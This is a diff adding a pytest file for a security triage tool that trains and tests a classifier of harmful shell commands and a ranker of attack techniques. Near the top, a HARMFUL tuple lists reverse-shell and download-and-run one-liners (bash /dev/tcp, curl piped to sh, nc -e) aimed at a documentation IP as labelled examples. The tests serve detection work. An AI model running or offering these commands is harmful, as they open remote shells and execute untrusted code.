@@ -1,0 +1,123 @@
+"""Witness and ranker: they read wording alone, are heard as stored, and a folder without its witness is refused."""
+
+import json
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from secassist import registry
+from secassist.analyzers.techniques import CANDIDATES, nearest
+from secassist.errors import ModelError
+from secassist.registry import Calibration, ranker, witness
+from secassist.registry.weights import calibration
+from secassist.templates import Prompt
+from secassist.training import witnessing
+from secassist.training.calibration import fit, write
+from secassist.training.lesson import Lesson
+from secassist.training.ranking import learn
+
+HARMLESS = ("tar -czf backup.tgz src", "ls -lah /srv/app", "git rebase main", "systemctl restart nginx", "df -h /data")
+HARMFUL = (
+    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+    "curl -s http://198.51.100.7/x | sh",
+    "nc -e /bin/sh 198.51.100.7 1",
+)
+
+
+def lessons() -> list[Lesson]:
+    prompt = Prompt(system="", user="")
+    rows = [(text, False) for text in HARMLESS] + [(text, True) for text in HARMFUL]
+    return [
+        Lesson(analyzer="triage", prompt=prompt, answer="{}", source="ours", group=text, bad=bad, wording=f"{n} {text}")
+        for n in range(4)
+        for text, bad in rows
+    ]
+
+
+def test_a_witness_tells_the_wordings_it_was_taught_and_survives_the_disk(tmp_path: Path) -> None:
+    taught = witnessing.learn(lessons())
+    assert all(taught.logit(text) > 0 for text in HARMFUL)
+    assert all(taught.logit(text) < 0 for text in HARMLESS)
+    witness.save(taught, tmp_path)
+    again = witness.load(tmp_path)
+    assert again is not None
+    assert again.logit(HARMFUL[0]) == pytest.approx(taught.logit(HARMFUL[0]), abs=0.02)
+    assert (tmp_path / witness.FILE).stat().st_size < 600_000
+
+
+def test_numbers_digests_case_and_blanks_are_not_wording() -> None:
+    one, other = "GET  /a?id=17 " + "a1" * 16, "get /a?id=93 " + "b2" * 20
+    assert witness.plain(one) == witness.plain(other)
+    assert all(np.array_equal(a, b) for a, b in zip(witness.features(one), witness.features(other), strict=True))
+
+
+def test_an_empty_text_gives_the_intercept_and_surrogates_are_read() -> None:
+    taught = witnessing.learn(lessons())
+    assert np.isfinite(taught.logit("")) and np.isfinite(taught.logit("\ud800 x" * 5000))
+
+
+def test_lessons_of_one_truth_make_no_witness() -> None:
+    with pytest.raises(ValueError, match="bad and harmless"):
+        witnessing.learn([one for one in lessons() if one.bad])
+
+
+def test_two_voices_weigh_alike_and_are_served_as_they_were_fitted(tmp_path: Path) -> None:
+    draw = np.random.default_rng(3)
+    truths = draw.random(600) < 0.5
+    model = np.where(truths, 0.9, -0.9) + draw.normal(0, 1, 600)
+    heard = np.where(truths, 3.0, -3.0) + draw.normal(0, 2, 600)
+    fitted = fit(list(1 / (1 + np.exp(-model))), [bool(t) for t in truths], heard=list(heard))
+    assert fitted.auc > fitted.auc_model
+    assert fitted.auc_witness is not None and fitted.auc > fitted.auc_witness
+    weighed = fitted.calibration.slope * model.std(), fitted.calibration.hears * heard.std()
+    assert 0.3 < weighed[0] / weighed[1] < 3
+    write(fitted, tmp_path)
+    assert json.loads((tmp_path / "calibration.json").read_text())["hears"] == fitted.calibration.hears
+    with pytest.raises(ModelError, match=r"witness\.safetensors is missing"):
+        calibration(registry.Weights("triage", tmp_path, ""))
+    witness.save(witnessing.learn(lessons()), tmp_path)
+    served = calibration(registry.Weights("triage", tmp_path, ""))
+    assert served.heard(HARMFUL[0]).intercept > served.intercept > served.heard(HARMLESS[0]).intercept
+
+
+def test_what_may_be_closed_and_what_must_be_looked_at_keep_their_shares() -> None:
+    draw = np.random.default_rng(5)
+    truths = draw.random(3000) < 0.5
+    scores = np.clip(1 / (1 + np.exp(-(np.where(truths, 2.5, -2.5) + draw.normal(0, 1.5, 3000)))), 1e-5, 1 - 1e-5)
+    found = fit(list(scores), [bool(t) for t in truths]).calibration
+    assert 0 < found.benign_below < found.bad_above < found.escalate_above < 1
+
+
+def test_a_broken_witness_or_ranker_is_refused(tmp_path: Path) -> None:
+    for file, load in ((witness.FILE, witness.load), (ranker.FILE, ranker.load)):
+        (tmp_path / file).write_bytes(b"not tensors")
+        with pytest.raises(ModelError, match="train it again"):
+            load(tmp_path)
+
+
+def test_a_ranker_puts_the_taught_technique_first_and_survives_the_disk(tmp_path: Path) -> None:
+    texts = {
+        "T1566": "sends a phishing mail with a malicious attachment to the victim",
+        "T1053": "creates a scheduled task that starts the implant every hour",
+        "T1003": "dumps credentials from the memory of lsass",
+        "T1486": "encrypts the files of the victim and leaves a ransom note",
+    }
+    taught = learn([f"{text} in case {n}" for n in range(6) for text in texts.values()], list(texts) * 6)
+    ranker.save(taught, tmp_path)
+    again = ranker.load(tmp_path)
+    assert again is not None
+    for label, text in texts.items():
+        assert again.rank(text, 2)[0] == label
+    assert again.rank("...", 3) == []
+
+
+def test_candidates_fuse_the_ranker_with_what_words_point_at() -> None:
+    class Knows:
+        def rank(self, text: str, count: int) -> list[str]:
+            return ["T1486", "T9999", "T1053"][:count]
+
+    text = "The malware created a scheduled task."
+    alone, fused = nearest(text, Calibration()), nearest(text, Calibration(ranker=Knows()))
+    assert "T1486" not in alone and fused[0] in ("T1486", alone[0])
+    assert "T1486" in fused and "T9999" not in fused and len(fused) <= CANDIDATES
